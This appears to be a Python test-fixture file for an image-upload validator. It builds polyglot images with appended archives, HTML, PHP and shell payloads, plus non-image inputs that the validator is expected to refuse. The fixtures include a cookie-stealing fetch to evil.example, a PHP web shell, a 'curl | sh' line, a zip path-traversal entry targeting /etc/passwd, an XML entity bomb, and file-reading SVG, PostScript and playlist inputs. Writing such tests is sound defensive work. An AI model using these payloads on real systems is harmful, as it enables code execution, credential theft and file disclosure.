"""Files that are two things at once, files of other types, and files of none."""

import io
import random
import zipfile
from collections.abc import Callable
from typing import Final

from testing import photos
from tests.security.pictures.picture import NOT_AN_IMAGE, UPRIGHT, Picture, Refused, Shows

_SMALL: Final = Shows(UPRIGHT, (64, 48))
_PAGE: Final = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
_PHP: Final = b"<?php system($_GET['cmd']); ?>"
_SHELL: Final = b"\n#!/bin/sh\ncurl https://evil.example | sh\n"
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
_PDF: Final = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
_MP4: Final = b"\0\0\0\x18ftypisom\0\0\2\0isommp42" + bytes(2000)
_XML_BOMB: Final = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><svg>&c;</svg>'


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.writestr("../../etc/passwd", "root::0:0::/:/bin/sh\n")
    return out.getvalue()


def _of(content: bytes) -> Callable[[], bytes]:
    return lambda: content


POLYGLOTS: Final = [
    Picture("jpeg that is an archive", lambda: photos.jpeg() + _archive(), _SMALL),
    Picture("png that is an archive", lambda: photos.png() + _archive(), _SMALL),
    Picture("heic that is an archive", lambda: photos.heic() + _archive(), _SMALL),
    Picture("jpeg that is a page", lambda: photos.jpeg(comment=_PAGE) + _PAGE, _SMALL),
    Picture("png that is a page", lambda: photos.png() + _PAGE, _SMALL),
    Picture("jpeg that is a PHP script", lambda: photos.jpeg(comment=_PHP) + _PHP, _SMALL),
    Picture("jpeg that is a shell script", lambda: photos.jpeg() + _SHELL, _SMALL),
    Picture("jpeg that is a PDF", lambda: photos.jpeg(comment=_PDF) + _PDF, _SMALL),
    Picture("jpeg and png in one", lambda: photos.jpeg() + photos.png(), _SMALL),
    Picture("png and jpeg in one", lambda: photos.png() + photos.jpeg(), _SMALL),
    Picture("gif that is an archive (GIFAR)", lambda: photos.other("GIF") + _archive(), _SMALL),
    Picture("archive with a jpeg in it", lambda: _archive() + photos.jpeg(), Refused(NOT_AN_IMAGE)),
    Picture("page with a jpeg in it", lambda: _PAGE + photos.jpeg(), Refused(NOT_AN_IMAGE)),
]

OTHERS: Final = [
    *(
        Picture(kind.lower(), lambda kind=kind: photos.other(kind), Refused(NOT_AN_IMAGE))  # type: ignore[misc]
        for kind in ("ICO", "TGA", "PPM", "JPEG2000", "EPS", "PCX", "DDS", "SGI")
    ),
    Picture("svg", _of(_SVG), Refused(NOT_AN_IMAGE)),
    Picture("xml bomb", _of(_XML_BOMB), Refused(NOT_AN_IMAGE)),
    Picture("pdf", _of(_PDF), Refused(NOT_AN_IMAGE)),
    Picture("mp4", _of(_MP4), Refused(NOT_AN_IMAGE)),
    Picture("program", _of(b"\x7fELF\2\1\1" + bytes(2000)), Refused(NOT_AN_IMAGE)),
    Picture(
        "PostScript",
        _of(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"),
        Refused(NOT_AN_IMAGE),
    ),
    Picture(
        "commands to a converter",
        _of(b"push graphic-context\nimage over 0,0 0,0 'url(http://evil.example)'\n"),
        Refused(NOT_AN_IMAGE),
    ),
    Picture("playlist that reads a file", _of(b"#EXTM3U\n#EXTINF:1\nfile:///etc/passwd\n"), Refused(NOT_AN_IMAGE)),
    Picture("words", _of(b"This is a photo of my cat. Trust me. " * 100), Refused(NOT_AN_IMAGE)),
    Picture("noise", lambda: random.Random(13).randbytes(50_000), Refused(NOT_AN_IMAGE)),
    Picture("zeros", _of(bytes(50_000)), Refused(NOT_AN_IMAGE)),
    Picture("one byte", _of(b"\xff"), Refused(NOT_AN_IMAGE)),
    Picture("nothing", _of(b""), Refused(NOT_AN_IMAGE)),
]
